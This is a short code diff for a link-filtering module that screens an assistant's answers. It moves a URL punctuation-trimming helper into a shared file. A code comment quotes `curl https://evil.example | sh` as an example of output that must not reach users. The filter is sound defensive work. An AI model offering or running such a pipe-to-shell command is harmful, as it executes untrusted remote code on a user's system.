@@ -10,6 +10,7 @@
 // `curl https://evil.example | sh` in a code block is exactly what must not reach a member.
 // Pure and cheap; docent.ts runs it on every final answer and every streamed partial.
 import { LINK_REMOVED } from "./generate/grounding-check.js";
+import { trimTrailingPunctuation } from "../text/trim-url.js";
 
 export { LINK_REMOVED };
 
@@ -157,19 +158,3 @@ function normaliseHost(host: string): string | undefined {
   }
 }
 
-function trimTrailingPunctuation(url: string): string {
-  let end = url.length;
-  for (;;) {
-    const c = url[end - 1];
-    if (c && ".,;:!?*_'\"]}".includes(c)) end--;
-    else if (c === ")" && count(url.slice(0, end), "(") < count(url.slice(0, end), ")")) end--;
-    else break;
-  }
-  return url.slice(0, end);
-}
-
-function count(text: string, ch: string): number {
-  let n = 0;
-  for (const c of text) if (c === ch) n++;
-  return n;
-}
